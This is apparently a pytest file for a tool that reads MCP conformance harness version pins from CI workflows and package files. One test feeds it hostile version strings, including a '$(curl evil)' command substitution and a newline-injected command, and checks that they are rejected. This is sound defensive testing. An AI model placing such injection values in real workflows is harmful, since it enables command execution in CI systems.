"""The harness versions an SDK's CI pins, as `init` reads them and `show-config` sets them
beside the referee."""

from __future__ import annotations

import json
from pathlib import Path

from tiercheck.config.registry import load_registry
from tiercheck.conformance.harness import PINNED_VERSION
from tiercheck.pipeline.show_config import ShowConfigRequest, show_config
from tiercheck.sdk.infer.pins import harness_pins, read_harness_pins

WORKFLOW = """\
env:
  CONFORMANCE_VERSION: "0.2.0-alpha.10"
jobs:
  server:
    steps:
      - run: npx -y @modelcontextprotocol/conformance@0.1.16 server --url http://x/mcp
      - run: npx -y "@modelcontextprotocol/conformance@${{ env.CONFORMANCE_VERSION }}" client
      - run: npx @modelcontextprotocol/conformance@${{ vars.UNSEEN }} client
      - run: npx @modelcontextprotocol/conformance list
"""


def _versions(files: dict[str, str]) -> list[str]:
    return [version for version, _ in harness_pins(files)[0]]


def test_every_version_a_workflow_names_in_file_order() -> None:
    assert _versions({".github/workflows/c.yml": WORKFLOW}) == [
        "0.1.16",
        "0.2.0-alpha.10",
        "latest",
    ]


def test_a_manifest_range_stands_for_what_the_lock_resolved() -> None:
    manifest = json.dumps({"devDependencies": {"@modelcontextprotocol/conformance": "^0.1.15"}})
    lock = json.dumps(
        {"packages": {"node_modules/@modelcontextprotocol/conformance": {"version": "0.1.16"}}}
    )
    assert _versions({"package.json": manifest}) == ["^0.1.15"]
    assert harness_pins({"package.json": manifest, "package-lock.json": lock})[0] == (
        ("0.1.16", "package-lock.json"),
    )


def test_a_hostile_version_is_not_kept() -> None:
    text = "run: npx @modelcontextprotocol/conformance@$(curl evil) server\n"
    assert _versions({".github/workflows/x.yml": text}) == []
    text = "run: npx @modelcontextprotocol/conformance@0.1.16\\nbad server\n"
    assert _versions({".github/workflows/x.yml": text}) == []


def test_read_stays_inside_the_checkout(tmp_path: Path) -> None:
    outside = tmp_path / "outside.json"
    outside.write_text(json.dumps({"dependencies": {"@modelcontextprotocol/conformance": "9"}}))
    root = tmp_path / "sdk"
    (root / ".github" / "workflows").mkdir(parents=True)
    (root / ".github" / "workflows" / "c.yml").write_text(WORKFLOW)
    (root / "package.json").symlink_to(outside)
    pins, notes = read_harness_pins(root)
    assert [v for v, _ in pins] == ["0.1.16", "0.2.0-alpha.10", "latest"]
    assert notes == ()


def _registry(tmp_path: Path, extra: str) -> Path:
    path = tmp_path / "reg.yaml"
    path.write_text(
        "acme:\n  repo: acme/acme\n  revisions: ['2025-11-25']\n"
        "  server:\n    command: ./srv {port}\n    url: http://127.0.0.1:{port}/mcp\n" + extra
    )
    return path


def test_show_config_sets_the_ci_pins_beside_the_referee(tmp_path: Path) -> None:
    registry = load_registry(_registry(tmp_path, "  ci_harness: ['0.1.16']\n"))
    assert registry.get("acme").ci_harness == ("0.1.16",)
    shown = show_config(ShowConfigRequest(registry, sdk="acme"))
    line = f"harness: CI pins 0.1.16 (the entry), the referee is {PINNED_VERSION}"
    assert shown.lines()[1] == line
    assert shown.to_dict()["harness"] == {
        "ci_pins": ["0.1.16"],
        "ci_pins_from": "the entry",
        "referee": PINNED_VERSION,
    }


def test_show_config_without_pins_says_where_they_come_from(tmp_path: Path) -> None:
    registry = load_registry(_registry(tmp_path, ""))
    shown = show_config(ShowConfigRequest(registry, sdk="acme"))
    assert "`tier-check init` records it" in shown.lines()[1]
    assert shown.to_dict()["harness"]["ci_pins"] == []


def test_the_official_actions_release_tag_is_a_pin() -> None:
    action = """\
jobs:
  j:
    steps:
      - uses: modelcontextprotocol/conformance@v0.1.16
        with: {mode: server, url: "http://localhost:3000/mcp"}
      - uses: "modelcontextprotocol/conformance@0.2.0-alpha.12"
      - uses: modelcontextprotocol/conformance@main
"""
    assert _versions({".github/workflows/c.yml": action}) == ["0.1.16", "0.2.0-alpha.12"]
